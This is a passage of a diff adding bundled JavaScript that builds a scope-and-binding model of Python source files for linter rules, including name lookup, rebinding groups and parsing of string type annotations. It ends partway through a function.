+exports.lookup = lookup;
+exports.rebindingGroup = rebindingGroup;
+exports.isGroupUsed = isGroupUsed;
+exports.scopeAt = scopeAt;
+/**
+ * Scopes and bindings: the shared name-resolution model of a Python file.
+ *
+ * Built during the single walk and resolved in `end`, it answers "which binding does this read
+ * refer to" and "is this binding ever read", the questions behind unused-import, unused-variable,
+ * naming and docstring rules. Rules declare `uses: [scopes]` and read the model in their own `end`:
+ *
+ *     const model = context.analysis<ScopeModel>(scopes.name);
+ *
+ * THE MODEL
+ *
+ * - `Scope`: module, class, function, lambda or comprehension, with its parent, children, bindings,
+ *   references (reads that occur in it), `global`/`nonlocal` declarations, `locals()` use, star
+ *   imports and docstring.
+ * - `Binding`: one place where a name gets (or loses) a value: imports, assignments and other
+ *   targets, definitions, parameters, declarations, `del`. `node` is the identifier that names it
+ *   (for `import a.b`, the identifier `a`; for an alias, the alias); `owner` is the construct
+ *   (statement, parameter list, ...); `at` is the source index where the name takes its value,
+ *   which is after the right-hand side for `x = x + 1`. `references` lists the reads resolved to it.
+ * - `Reference`: one read of a name, wherever Python (or a type checker) evaluates names: ordinary
+ *   expressions, decorators, default values, annotations, class bases and keywords, f-strings,
+ *   `del` and augmented targets, names inside string annotations (`"List[int]"`, whose reference
+ *   node is the string literal), and the string items of `__all__` (which export module names).
+ *
+ * RESOLUTION (after the walk: function bodies run when called, so a read in a function body sees
+ * what the module has bound by then)
+ *
+ * Like pyflakes and Ruff, the model is flow-insensitive within a scope but ordered: a read in the
+ * code that runs as it is reached (a module or class body, or a function's own body) sees the last
+ * binding made before it in that scope; once the lookup leaves a function or lambda, or when the
+ * read itself is deferred (string annotations, all annotations under
+ * `from __future__ import annotations`, `type` alias values, `__all__`), it sees the last binding
+ * of each enclosing scope. Class scopes are only visible from code directly in the class body, as in
+ * Python. A name declared `global`/`nonlocal` is looked up in the module/enclosing function. A name
+ * whose last binding is a `del` is unbound. A read that finds nothing is left unresolved (a builtin,
+ * an undefined name, or, when `maybeStar` is set, possibly a name from a star import).
+ *
+ * Several bindings of one name in one scope form a "rebinding group" (split at `del`): a read that
+ * reaches any member is taken to keep the whole group alive (`isGroupUsed`), because alternatives
+ * such as `try: import json / except ImportError: json = None` or `if/else` imports only ever
+ * leave one of them bound at run time, and a read in a loop may see any of them.
+ */
+const web_tree_sitter_1 = __nccwpck_require__(778);
+// ---------------------------------------------------------------------------------------------
+// Helpers for rules
+// ---------------------------------------------------------------------------------------------
+const DECLARATIONS = new Set(['global', 'nonlocal']);
+/** Bindings of `name` in `scope`, ordered by when they take effect (declarations excluded). */
+function bindingsOf(scope, name) {
+    return scope.byName.get(name) ?? [];
+}
+/** The binding of `name` in `scope` that a read at `at` sees, or the last one when `at` is omitted. */
+function bindingIn(scope, name, at) {
+    const list = scope.byName.get(name);
+    if (!list)
+        return undefined;
+    if (at === undefined)
+        return list[list.length - 1];
+    let found;
+    for (const binding of list) {
+        if (binding.at > at)
+            break;
+        found = binding;
+    }
+    return found;
+}
+/**
+ * Resolves `name` as read in `scope` at source index `at` (see the module comment). `deferred`
+ * reads, and `at` omitted, see each scope's last binding. Returns undefined for names with no
+ * binding (builtins, undefined names, deleted names).
+ */
+function lookup(scope, name, at, deferred = false) {
+    let crossed = deferred || at === undefined;
+    for (let s = scope, first = true; s; s = s.parent, first = false) {
+        if (!first && s.kind === 'class')
+            continue;
+        if (s.kind !== 'module' && s.globals.has(name)) {
+            let module = s;
+            while (module.parent)
+                module = module.parent;
+            const binding = bindingIn(module, name);
+            return binding && binding.kind !== 'del' ? binding : undefined;
+        }
+        if (!s.nonlocals.has(name)) {
+            const final = crossed || s.kind === 'comprehension';
+            const binding = bindingIn(s, name, final ? undefined : at);
+            if (binding)
+                return binding.kind === 'del' ? undefined : binding;
+        }
+        if (s.kind === 'function' || s.kind === 'lambda')
+            crossed = true;
+    }
+    return undefined;
+}
+/**
+ * The rebinding group of a binding: the bindings of its name in its scope between the `del`
+ * statements around it (a `del` closes the group it belongs to).
+ */
+function rebindingGroup(binding) {
+    if (DECLARATIONS.has(binding.kind))
+        return [binding];
+    const list = bindingsOf(binding.scope, binding.name);
+    const index = list.indexOf(binding);
+    let start = index;
+    while (start > 0 && list[start - 1].kind !== 'del')
+        start--;
+    let end = index;
+    while (end < list.length - 1 && list[end].kind !== 'del')
+        end++;
+    return list.slice(start, end + 1);
+}
+/** True when some read reaches the binding's rebinding group, or its scope calls `locals()`. */
+function isGroupUsed(binding) {
+    if (binding.scope.usesLocals)
+        return true;
+    return rebindingGroup(binding).some((member) => member.references.length > 0);
+}
+/** The innermost scope in which code at source index `index` is evaluated. */
+function scopeAt(model, index) {
+    let scope = model.module;
+    for (;;) {
+        // A child's outer parts (defaults, annotations, bases) run in `scope`; a scope nested in them
+        // (a lambda as a default value) is a child of `scope` too, so keep looking among the siblings.
+        const child = scope.children.find((c) => c.node.startIndex <= index && index < c.node.endIndex && !c.outer.some(([s, e]) => s <= index && index < e));
+        if (!child)
+            return scope;
+        scope = child;
+    }
+}
+// ---------------------------------------------------------------------------------------------
+// The analysis
+// ---------------------------------------------------------------------------------------------
+/** Containers an identifier can sit in while still being the target of an assignment. */
+const TARGET_CONTAINERS = new Set([
+    'pattern_list',
+    'tuple_pattern',
+    'list_pattern',
+    'tuple',
+    'list',
+    'parenthesized_expression',
+    'list_splat_pattern',
+    'expression_list',
+    'as_pattern_target',
+]);
+const COMPREHENSIONS = new Set(['list_comprehension', 'set_comprehension', 'dictionary_comprehension', 'generator_expression']);
+/** Parents of a `type` node that make it an annotation. */
+const ANNOTATION_OWNERS = new Set(['typed_parameter', 'typed_default_parameter', 'function_definition', 'assignment']);
+/**
+ * Subscripted names whose arguments are type expressions even outside annotations (so strings in
+ * them are forward references): `Optional["Node"]`, `list["Node"]`. Over-approximating only makes
+ * more names count as read, never fewer.
+ */
+const TYPE_FORMS = new Set([
+    'Optional', 'Union', 'List', 'Dict', 'Set', 'FrozenSet', 'Tuple', 'Type', 'Callable', 'Iterable',
+    'Iterator', 'Sequence', 'MutableSequence', 'Mapping', 'MutableMapping', 'AbstractSet', 'MutableSet',
+    'Collection', 'Container', 'Reversible', 'Generator', 'AsyncGenerator', 'AsyncIterable',
+    'AsyncIterator', 'Awaitable', 'Coroutine', 'ClassVar', 'Final', 'DefaultDict', 'OrderedDict',
+    'Counter', 'Deque', 'ChainMap', 'ContextManager', 'AsyncContextManager', 'Generic', 'Protocol',
+    'TypeGuard', 'TypeIs', 'Required', 'NotRequired', 'ReadOnly', 'Unpack', 'Concatenate', 'IO',
+    'Pattern', 'Match', 'KeysView', 'ValuesView', 'ItemsView', 'MappingView', 'TypeAlias',
+    'list', 'dict', 'set', 'frozenset', 'tuple', 'type',
+]);
+const IMPORT_ERROR = /\b(ImportError|ModuleNotFoundError)\b/;
+/** Last component of a dotted callee or subscript base: `Literal` for `typing.Literal`. */
+function lastName(node) {
+    if (!node)
+        return undefined;
+    if (node.type === 'identifier')
+        return node.text;
+    if (node.type === 'attribute')
+        return node.childForFieldName('attribute')?.text;
+    return undefined;
+}
+let snippetParser;
+/** A parser for string annotations, sharing the language of the file's tree. */
+function parserFor(language) {
+    if (!snippetParser || snippetParser.language !== language) {
+        snippetParser?.parser.delete();
+        const parser = new web_tree_sitter_1.Parser();
+        parser.setLanguage(language);
+        snippetParser = { language, parser };
+    }
+    return snippetParser.parser;
+}
+/**
+ * The value of a plain (non-f, non-bytes) string literal node, or undefined when it is not one.
+ * Escapes are decoded for the common cases; annotations rarely contain any.
+ */
+function stringValue(node, text) {
+    if (node.type === 'concatenated_string') {
+        let value = '';
+        for (const part of node.namedChildren) {
+            if (!part)
+                continue;
+            const piece = stringValue(part, text);
+            if (piece === undefined)
+                return undefined;
+            value += piece;
+        }
+        return value;
+    }
+    if (node.type !== 'string')
+        return undefined;
+    const start = node.firstChild;
+    const end = node.lastChild;
+    if (!start || !end || start.type !== 'string_start' || end.type !== 'string_end')
+        return undefined;
+    const prefix = start.text.replace(/['"]+$/, '').toLowerCase();
+    if (prefix.includes('f') || prefix.includes('b') || prefix.includes('t'))
+        return undefined;
+    const raw = text.slice(start.endIndex, end.startIndex);
+    if (prefix.includes('r') || !raw.includes('\\'))
+        return raw;
+    return raw.replace(/\\(\r\n|\n|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|.)/g, (_m, esc) => {
+        switch (esc[0]) {
+            case '\n':
+            case '\r':
+                return '';
+            case 'n':
+                return '\n';
+            case 't':
+                return '\t';
+            case 'r':
+                return '\r';
+            case 'x':
+            case 'u':
+            case 'U':
+                if (esc.length === 1)
+                    return esc;
+                return parseInt(esc.slice(1), 16) <= 0x10ffff ? String.fromCodePoint(parseInt(esc.slice(1), 16)) : '';
+            default:
+                return esc === '\\' || esc === "'" || esc === '"' ? esc : '\\' + esc;
+        }
+    });
+}
+/** Names of recently seen string annotations (the same few recur throughout a code base). */
+const forwardReferenceCache = new Map();
+/**
+ * Names read by a type expression written in a string, or undefined when the string is not a
+ * valid expression (Python would reject it as an annotation too).
+ */
+function forwardReferenceNames(value, language, depth) {
+    if (depth === 0 && forwardReferenceCache.has(value))
+        return forwardReferenceCache.get(value);
+    const names = parseForwardReference(value, language, depth);
+    if (depth === 0) {
+        if (forwardReferenceCache.size >= 2000)
+            forwardReferenceCache.clear();
+        forwardReferenceCache.set(value, names);
+    }
+    return names;
+}
+function parseForwardReference(value, language, depth) {
+    const expression = value.trim();
+    if (expression === '' || depth > 3)
+        return undefined;
+    // Parenthesised, like the implicit parentheses of an annotation, so that line breaks are fine.
+    const source = `(${expression}\n)`;
+    const tree = parserFor(language).parse(source);
+    if (!tree)
+        return undefined;
+    try {
+        const root = tree.rootNode;
+        if (root.hasError || root.namedChildCount !== 1)
+            return undefined;
+        const statement = root.namedChild(0);
+        if (!statement || statement.type !== 'expression_statement' || statement.namedChildCount !== 1)
+            return undefined;
+        const names = [];
+        collectTypeExpressionNames(statement.namedChild(0), true, names, { language, source, depth });
+        return names;
+    }
+    finally {
+        tree.delete();
+    }
+}
+/**
+ * Names read by an expression parsed from a string annotation. `typeContext` is false inside
+ * `Literal[...]` and the metadata of `Annotated[...]`, where strings are values, not types.
+ */
+function collectTypeExpressionNames(node, typeContext, out, snippet) {
+    switch (node.type) {
+        case 'identifier':
+            out.push(node.text);
+            return;
+        case 'attribute': {
+            const object = node.childForFieldName('object');
+            if (object)
+                collectTypeExpressionNames(object, typeContext, out, snippet);
+            return;
+        }
+        case 'keyword_argument': {
+            const value = node.childForFieldName('value');
+            if (value)
+                collectTypeExpressionNames(value, typeContext, out, snippet);
+            return;
+        }
+        case 'string':
+        case 'concatenated_string': {
+            const value = typeContext ? stringValue(node, snippet.source) : undefined;
+            if (value !== undefined) {
+                out.push(...(forwardReferenceNames(value, snippet.language, snippet.depth + 1) ?? []));
+                return;
+            }
+            break; // f-strings: their interpolations are ordinary expressions
+        }
+        case 'subscript': {
+            const base = node.childForFieldName('value');
+            if (base)
+                collectTypeExpressionNames(base, typeContext, out, snippet);
+            const name = lastName(base);
+            let index = 0;
+            for (const slice of node.childrenForFieldName('subscript')) {
+                if (!slice)
+                    continue;
+                const inner = typeContext && name !== 'Literal' && !(name === 'Annotated' && index > 0);
+                collectTypeExpressionNames(slice, inner, out, snippet);
+                index++;
+            }
+            return;
+        }
+    }
+    for (const child of node.namedChildren) {
+        if (child)
+            collectTypeExpressionNames(child, typeContext, out, snippet);
+    }
+}
+/** True when the string literal `node` is used as a type (a forward reference). */
+function isTypeString(node) {
+    let current = node;
+    for (;;) {
+        const parent = current.parent;
+        if (!parent)
+            return false;
+        switch (parent.type) {
+            case 'concatenated_string':
+            case 'tuple':
+            case 'list':
+            case 'dictionary':
+            case 'parenthesized_expression':
+            case 'binary_operator':
+            case 'expression_list':
+            case 'union_type':
+            case 'constrained_type':
+            case 'member_type':
+                current = parent;
+                continue;
+            case 'pair':
+                // The field types of `TypedDict("T", {"name": "Type"})`; keys are never types.
+                if (parent.childForFieldName('value')?.id !== current.id)
+                    return false;
+                current = parent;
+                continue;
+            case 'type': {
+                const owner = parent.parent;
+                if (owner && (ANNOTATION_OWNERS.has(owner.type) || owner.type === 'type_alias_statement'))
+                    return true;
+                current = parent;
+                continue;
+            }
+            case 'type_parameter': {
+                const owner = parent.parent;
+                if (owner?.type !== 'generic_type')
+                    return true; // a PEP 695 bound
+                const name = owner.firstNamedChild?.text;
+                if (name === 'Literal')
+                    return false;
+                if (name === 'Annotated' && parent.firstNamedChild?.id !== current.id)
+                    return false;
+                if (name === 'Annotated' || TYPE_FORMS.has(name ?? ''))
+                    return true;
+                current = owner;
+                continue;
+            }
+            case 'subscript': {
+                const base = parent.childForFieldName('value');
+                if (!base || base.id === current.id)
+                    return false;
+                const name = lastName(base);
+                if (name === 'Literal')
+                    return false;
+                if (name === 'Annotated')
+                    return parent.childForFieldName('subscript')?.id === current.id;
+                if (TYPE_FORMS.has(name ?? ''))
+                    return true;
+                current = parent;
+                continue;
+            }
+            case 'argument_list': {
+                const call = parent.parent;
+                const callee = lastName(call?.childForFieldName('function') ?? null);
+                const positional = parent.namedChildren.filter((c) => c && c.type !== 'keyword_argument' && c.type !== 'comment');
+                const position = positional.findIndex((c) => c?.id === current.id);
+                if (callee === 'cast')
+                    return position === 0;
+                if (callee === 'TypeVar')
+                    return position > 0;
+                if (callee === 'NewType' || callee === 'TypeAliasType')
+                    return position === 1;
+                // Functional `TypedDict("T", {...})` and `NamedTuple("T", [("name", "Type")])`.
+                if (callee === 'TypedDict' || callee === 'NamedTuple')
+                    return position === 1;
+                return false;
+            }
+            case 'assignment': {
+                // `X: TypeAlias = "Node | None"`: the value is a type expression.
+                const annotation = parent.childForFieldName('type');
+                if (!annotation || parent.childForFieldName('right')?.id !== current.id)
+                    return false;
+                return /(^|\.)TypeAlias$/.test(annotation.text.trim());
+            }
+            case 'keyword_argument': {
+                // `TypeVar("T", bound="Node")`, `NamedTuple("T", name="Type")`, `TypedDict("T", name="Type")`.
+                const callee = lastName(parent.parent?.parent?.childForFieldName('function') ?? null);
+                if (callee === 'TypedDict' || callee === 'NamedTuple')
+                    return true;
+                return callee === 'TypeVar' && parent.childForFieldName('name')?.text === 'bound';
+            }
+            default:
+                return false;
+        }
+    }
+}
+/** The docstring of a module node or of a class/function body. */
+function docstringOf(body) {
+    const first = body?.firstNamedChild;
+    if (first?.type !== 'expression_statement' || first.namedChildCount !== 1)
+        return undefined;
+    const value = first.firstNamedChild;
+    return value && (value.type === 'string' || value.type === 'concatenated_string') ? value : undefined;
+}
+/** A name as Python writes it (Unicode letters, digits, underscore). */
+const NAME = /[\p{ID_Continue}]+/uy;
+/** A dotted chain of names followed by `(` or `[`: the callee of a call, the base of a subscript. */
+const CHAIN = /((?:[\p{ID_Continue}]+[ \t]*\.[ \t]*)*)([\p{ID_Continue}]+)[ \t]*([([])/uy;
+/** `if TYPE_CHECKING:`, `if typing.TYPE_CHECKING:`, `if not TYPE_CHECKING:`. */
+const IF_TYPE_CHECKING = /if[ \t]+(not[ \t]+)?(?:[\p{ID_Continue}]+[ \t]*\.[ \t]*)*TYPE_CHECKING[ \t]*:/uy;
+/** Calls whose string arguments can be types: `cast("T", x)`, `TypeVar("T", bound="B")`, ... */
+const TYPE_CALLS = new Set(['cast', 'TypeVar', 'NewType', 'TypeAliasType', 'TypedDict', 'NamedTuple']);
+/**
+ * Ranges the walk enters in source order, kept on a stack: `at(index)` drops the ranges that end
+ * before `index` (the walk never comes back to them) and tells whether `index` is in the innermost
+ * one left. Works because the ranges of one stack are nested or disjoint and queried in order.
+ */
+class RangeStack {
+    items = [];
+    push(item) {
+        this.items.push(item);
+    }
+    at(index) {
+        const items = this.items;
+        while (items.length > 0 && items[items.length - 1].end <= index)
+            items.pop();
+        const top = items[items.length - 1];
+        return top && top.start <= index ? top : undefined;
+    }
+}
+class ScopeBuilder {
+    context;
+    text;
+    stack = [];
+    scopes = [];
+    bindings = [];
+    references = [];
+    exports = [];
+    targets = [];
+    /** Annotations (pushed by their owners, in source order) and lazily evaluated type expressions. */
+    annotations = new RangeStack();
+    /** Places where a string may be a type outside annotations: `Optional["T"]`, `cast("T", x)`. */
+    typeRegions = new RangeStack();
+    /** Patterns of `case` clauses, whose names need the slow, parent-based classification. */
+    patterns = new RangeStack();
+    /** Start indices of identifiers already handled by the construct they belong to. */
+    handled = new Set();
+    /** Start indices of strings already handled as part of a concatenation. */
+    handledStrings = new Set();
+    typeCheckingRanges = [];
+    importGuardRanges = [];
+    /** End of the last import statement: the names inside it are handled by the statement. */
+    importEnd = -1;
+    futureAnnotations = false;
+    constructor(context) {
+        this.context = context;
+        this.text = context.text;
+        // The root is `module`, or `ERROR` when the file is badly broken: either way, the module scope.
+        const root = context.tree.rootNode;
+        this.pushScope('module', root, undefined, [], root.type === 'module' ? docstringOf(root) : undefined);
+    }
+    visitor() {
+        const exitScope = () => void this.stack.pop();
+        const popTarget = (node) => {
+            const top = this.targets[this.targets.length - 1];
+            if (top && top.owner.id === node.id)
+                this.targets.pop();
+        };
+        const visitor = {
+            class_definition: (node) => this.enterClass(node),
+            'class_definition:exit': exitScope,
+            function_definition: (node) => this.enterFunction(node),
+            'function_definition:exit': exitScope,
+            lambda: (node) => this.enterLambda(node),
+            'lambda:exit': exitScope,
+            identifier: (node) => this.identifier(node),
+            keyword_argument: (node) => void this.handled.add(node.startIndex), // `name=` is not a read
+            global_statement: (node) => this.declaration(node, 'global'),
+            nonlocal_statement: (node) => this.declaration(node, 'nonlocal'),
+            named_expression: (node) => this.namedExpression(node),
+            case_clause: (node) => this.caseClause(node),
+            import_statement: (node) => this.importStatement(node),
+            import_from_statement: (node) => this.importFromStatement(node, 'from-import'),
+            future_import_statement: (node) => this.importFromStatement(node, 'future-import'),
+            assignment: (node) => this.assignment(node),
+            'assignment:exit': popTarget,
+            augmented_assignment: (node) => this.augmentedAssignment(node),
+            'augmented_assignment:exit': popTarget,
+            for_statement: (node) => this.pushTarget(node, node.childForFieldName('left'), 'for', node.childForFieldName('right')?.endIndex ?? node.startIndex),
+            'for_statement:exit': popTarget,
+            for_in_clause: (node) => this.pushTarget(node, node.childForFieldName('left'), 'for', node.endIndex),
+            'for_in_clause:exit': popTarget,
+            as_pattern: (node) => this.asPattern(node),
+            'as_pattern:exit': popTarget,
+            delete_statement: (node) => this.pushTarget(node, node.firstNamedChild, 'del', node.endIndex),
+            'delete_statement:exit': popTarget,
+            type_alias_statement: (node) => this.typeAlias(node),
+            string: (node) => this.string(node),
+            concatenated_string: (node) => this.string(node),
+            call: (node) => this.call(node),
+            subscript: (node) => this.subscript(node),
+            if_statement: (node) => this.ifStatement(node),
+            try_statement: (node) => this.tryStatement(node),
+            end: () => this.context.setAnalysis(exports.scopes.name, this.finish()),
+        };
+        for (const type of COMPREHENSIONS) {
+            visitor[type] = (node) => this.enterComprehension(node);
+            visitor[`${type}:exit`] = exitScope;
+        }
+        return visitor;
+    }
+    // --- scopes ------------------------------------------------------------------------------
+    /** The scope in which code at `index` runs: the innermost open scope, or its parent for its outer parts. */
+    scopeAt(index) {
+        const top = this.stack[this.stack.length - 1];
+        for (const [start, end] of top.outer)
+            if (start <= index && index < end)
+                return top.parent;
+        return top;
+    }
+    pushScope(kind, node, parent, outer, docstring) {
+        const scope = {
+            kind,
+            node,
+            parent,
+            children: [],
+            bindings: [],
+            references: [],
+            globals: new Set(),
+            nonlocals: new Set(),
+            usesLocals: false,
+            starImports: [],
+            docstring,
+            byName: new Map(),
+            outer,
+        };
+        parent?.children.push(scope);
+        this.scopes.push(scope);
+        this.stack.push(scope);
+        return scope;
+    }
+    enterClass(node) {
+        const parent = this.scopeAt(node.startIndex);
+        const name = node.childForFieldName('name');
+        if (name)
+            this.bind(parent, name, 'class', node, node.endIndex);
+        const outer = [];
+        const bases = node.childForFieldName('superclasses');
+        if (bases)
+            outer.push([bases.startIndex, bases.endIndex]);
+        const scope = this.pushScope('class', node, parent, outer, docstringOf(node.childForFieldName('body')));
+        this.typeParameters(node, scope);
+    }
+    enterFunction(node) {
+        const parent = this.scopeAt(node.startIndex);
+        const name = node.childForFieldName('name');
+        if (name)
+            this.bind(parent, name, 'function', node, node.endIndex);
+        const outer = [];
+        const frames = [];
+        const names = this.parameters(node.childForFieldName('parameters'), outer, frames);
+        const returns = node.childForFieldName('return_type');
+        if (returns) {
+            outer.push([returns.startIndex, returns.endIndex]);
+            frames.push({ start: returns.startIndex, end: returns.endIndex, deferred: this.futureAnnotations });
+        }
+        // Innermost-first on the stack: the first annotation in source order ends up on top.
+        for (let i = frames.length - 1; i >= 0; i--)
+            this.annotations.push(frames[i]);
+        const scope = this.pushScope('function', node, parent, outer, docstringOf(node.childForFieldName('body')));
+        this.typeParameters(node, scope);
+        for (const [identifier, owner] of names)
+            this.bind(scope, identifier, 'parameter', owner, identifier.startIndex);
+    }
+    enterLambda(node) {
+        const parent = this.scopeAt(node.startIndex);
+        const outer = [];
+        const names = this.parameters(node.childForFieldName('parameters'), outer, []);
+        const scope = this.pushScope('lambda', node, parent, outer);
+        for (const [identifier, owner] of names)
+            this.bind(scope, identifier, 'parameter', owner, identifier.startIndex);
+    }
+    /**
+     * The names a parameter list binds (with the parameter node), and its parts that run where the
+     * function is defined: default values and annotations (`outer`), annotations also as `frames`.
+     */
+    parameters(parameters, outer, frames) {
+        const names = [];
+        if (!parameters)
+            return names;
+        for (const parameter of parameters.namedChildren) {
+            if (!parameter)
+                continue;
+            let name = null;
+            switch (parameter.type) {
+                case 'identifier':
+                    name = parameter;
+                    break;
+                case 'default_parameter':
+                case 'typed_default_parameter':
+                    name = parameter.childForFieldName('name');
+                    break;
+                case 'typed_parameter':
+                case 'list_splat_pattern':
+                case 'dictionary_splat_pattern':
+                    name = parameter.firstNamedChild;
+                    if (name && (name.type === 'list_splat_pattern' || name.type === 'dictionary_splat_pattern'))
+                        name = name.firstNamedChild;
+                    break;
+                default:
+                    continue; // `*`, `/`, comments
+            }
+            if (name?.type === 'identifier')
+                names.push([name, parameter]);
+            const value = parameter.childForFieldName('value');
+            if (value)
+                outer.push([value.startIndex, value.endIndex]);
+            const type = parameter.childForFieldName('type');
+            if (type) {
+                outer.push([type.startIndex, type.endIndex]);
+                frames.push({ start: type.startIndex, end: type.endIndex, deferred: this.futureAnnotations });
+            }
+        }
+        return names;
+    }
+    /** PEP 695 type parameters of a function or class bind in its scope; bounds are ordinary reads. */
+    typeParameters(node, scope) {
+        const list = node.childForFieldName('type_parameters');
+        if (list)
+            this.typeParameterNames(list, (identifier) => this.bind(scope, identifier, 'type-parameter', node, identifier.startIndex));
+    }
+    typeParameterNames(list, onName) {
+        for (const type of list.namedChildren) {
+            if (type?.type !== 'type')
+                continue;
+            let inner = type.firstNamedChild;
+            if (inner?.type === 'constrained_type')
+                inner = inner.firstNamedChild?.firstNamedChild ?? null;
+            else if (inner?.type === 'splat_type')
+                inner = inner.firstNamedChild;
+            if (inner?.type === 'identifier')
+                onName(inner);
+        }
+    }
+    enterComprehension(node) {
+        const parent = this.scopeAt(node.startIndex);
+        // The first iterable is evaluated in the enclosing scope, before the comprehension starts.
+        const outer = [];
+        const clause = node.namedChildren.find((c) => c?.type === 'for_in_clause');
+        const iterable = clause?.childForFieldName('right');
+        if (iterable && clause) {
+            // `right` may be several nodes (`for x in a, b`); take the span up to the end of the clause.
+            outer.push([iterable.startIndex, clause.endIndex]);
+        }
+        this.pushScope('comprehension', node, parent, outer);
+    }
+    // --- bindings and references ----------------------------------------------------------------
+    inRanges(ranges, index) {
+        for (const [start, end] of ranges)
+            if (start <= index && index < end)
+                return true;
+        return false;
+    }
+    bind(scope, node, kind, owner, at, extra = {}) {
+        const name = extra.name ?? node.text;
+        this.handled.add(node.startIndex);
+        const declared = scope.kind === 'module' ? undefined : scope.globals.has(name) ? 'global' : scope.nonlocals.has(name) ? 'nonlocal' : undefined;
+        const binding = {
+            name,
+            kind,
+            scope,
+            node,
+            owner,
+            at,
+            references: [],
+            import: extra.info,
+            declared: DECLARATIONS.has(kind) ? undefined : declared,
+            typeCheckingOnly: this.inRanges(this.typeCheckingRanges, node.startIndex),
+            guardedByImportError: this.inRanges(this.importGuardRanges, node.startIndex),
+            implicit: extra.implicit ?? false,
+        };
+        scope.bindings.push(binding);
+        this.bindings.push(binding);
+        if (!DECLARATIONS.has(kind)) {
+            let list = scope.byName.get(name);
+            if (!list)
+                scope.byName.set(name, (list = []));
+            list.push(binding);
+        }
+        return binding;
+    }
+    read(node, context, scope = this.scopeAt(node.startIndex), name, deferred) {
+        const at = node.startIndex;
+        const frame = this.annotations.at(at);
+        if (context === 'load' && frame)
+            context = 'annotation';
+        const reference = {
+            name: name ?? this.nameAt(at) ?? node.text,
+            node,
+            scope,
+            at,
+            context,
+            deferred: deferred ?? frame?.deferred ?? false,
+            maybeStar: false,
+        };
+        scope.references.push(reference);
+        this.references.push(reference);
+    }
+    /** The name that starts at `index` in the source. */
+    nameAt(index) {
+        NAME.lastIndex = index;
+        return NAME.exec(this.text)?.[0];
+    }
+    /**
+     * The token character before the name at `index`, skipping blanks: a `.` makes the name an
+     * attribute (`obj.name`); on the same line the dot cannot belong to a number, a string or a
+     * comment. Returns '' when the text alone cannot tell: the previous line ends with `.` or `\`
+     * (a comment ending in a period, or a continued attribute chain), or has a `#` that may hide
+     * one (`obj.  # comment` inside brackets).
+     */
+    charBefore(index) {
+        const text = this.text;
+        let i = index - 1;
+        for (; i >= 0; i--) {
+            const c = text[i];
+            if (c === ' ' || c === '\t' || c === '\f')
+                continue;
+            if (c === '\n' || c === '\r')
+                break;
+            return c;
+        }
+        for (; i >= 0; i--) {
+            const c = text[i];
+            if (c !== ' ' && c !== '\t' && c !== '\f' && c !== '\n' && c !== '\r')
+                break;
+        }
+        if (i < 0)
+            return '\n'; // first name of the file
+        const c = text[i];
+        if (c === '.' || c === '\\')
+            return '';
+        for (let j = i - 1; j >= 0 && text[j] !== '\n' && text[j] !== '\r'; j--)
+            if (text[j] === '#')
+                return '';
+        return c;
+    }
+    /**
+     * Classifies a name. The fast path decides from the source text and from what the enclosing
+     * constructs marked when the walk entered them (imports, parameters, `name=`, declarations,
+     * targets); a name first on its line or inside a `case` pattern takes the slow path, which asks
+     * the tree for its parent.
+     */
+    identifier(node) {
+        const start = node.startIndex;
+        if (this.handled.has(start) || start < this.importEnd)
+            return;
+        const before = this.charBefore(start);
+        if (before === '.')
+            return; // `obj.name`, `from .name import`
+        if (before === '' || this.patterns.at(start)) {
+            this.identifierByParent(node);
+            return;
+        }
+        if (!this.target(node, null))
+            this.read(node, 'load');
+    }
+    /** The slow path of `identifier`: the parent node tells what the name is. */
+    identifierByParent(node) {
+        const parent = node.parent;
+        if (!parent)
+            return;
+        const first = node.startIndex === parent.startIndex;
+        switch (parent.type) {
+            case 'attribute':
+            case 'member_type':
+                if (!first)
+                    return; // `.name` on a continuation line
+                break;
+            case 'keyword_argument':
+            case 'keyword_pattern':
+                if (first)
+                    return; // `name=`
+                break;
+            case 'dotted_name':
+                this.dottedNamePart(node, parent, first);
+                return;
+            case 'splat_pattern':
+                this.capture(node, parent);
+                return;
+            case 'as_pattern':
+                // In `match`, `pattern as name` binds `name`; in `with`/`except` the alias is wrapped in
+                // an `as_pattern_target`, and a bare identifier child is the value being read.
+                if (!first) {
+                    this.capture(node, parent);
+                    return;
+                }
+                break;
+        }
+        if (!this.target(node, parent))
+            this.read(node, 'load');
+    }
+    /** An identifier in a `dotted_name` outside imports: a `case` pattern. */
+    dottedNamePart(node, dotted, first) {
+        const owner = dotted.parent;
+        if (!owner || !first)
+            return;
+        // `case a.b` and `case C(...)` read a value; a bare `case x` captures.
+        if (dotted.namedChildCount > 1 || owner.type === 'class_pattern' || owner.type === 'dict_pattern') {
+            this.read(node, 'load');
+        }
+        else {
+            this.capture(node, owner);
+        }
+    }
+    capture(node, owner) {
+        if (this.nameAt(node.startIndex) === '_')
+            return;
+        this.bind(this.scopeAt(node.startIndex), node, 'match', owner, node.startIndex);
+    }
+    pushTarget(owner, root, kind, at, unbindAt) {
+        if (!root)
+            return;
+        this.targets.push({ root, start: root.startIndex, end: root.endIndex, single: root.type === 'identifier', kind, owner, at, unbindAt });
+    }
+    /** Binds `node` when it is (inside) the target of the innermost assignment-like construct. */
+    target(node, parent) {
+        const target = this.targets[this.targets.length - 1];
+        const start = node.startIndex;
+        if (!target || start < target.start || start >= target.end)
+            return false;
+        if (!target.single) {
+            // `a, (b, *c) = ...`: only names reached through tuples and lists are targets (not `x[i]`).
+            let current = node;
+            let up = parent ?? node.parent;
+            while (current.id !== target.root.id && up && TARGET_CONTAINERS.has(up.type)) {
+                current = up;
+                up = up.parent;
+            }
+            if (current.id !== target.root.id)
+                return false;
+        }
+        if (target.kind === 'annotation-only')
+            return true; // `x: int` declares, binds nothing, reads nothing
+        const scope = this.scopeAt(start);
+        if (target.kind === 'augmented')
+            this.read(node, 'augmented', scope);
+        if (target.kind === 'del')
+            this.read(node, 'del', scope);
+        this.bind(scope, node, target.kind, target.owner, target.at);
+        if (target.unbindAt !== undefined)
+            this.bind(scope, node, 'del', target.owner, target.unbindAt, { implicit: true });
+        return true;
+    }
+    declaration(node, kind) {
+        const scope = this.scopeAt(node.startIndex);
+        for (const name of node.namedChildren) {
+            if (name?.type !== 'identifier')
+                continue;
+            this.handled.add(name.startIndex);
+            if (scope.kind === 'module')
+                continue; // a no-op at module level
+            (kind === 'global' ? scope.globals : scope.nonlocals).add(name.text);
+            this.bind(scope, name, kind, node, name.startIndex);
+        }
+    }
+    namedExpression(node) {
+        const name = node.childForFieldName('name');
+        if (name?.type !== 'identifier')
+            return;
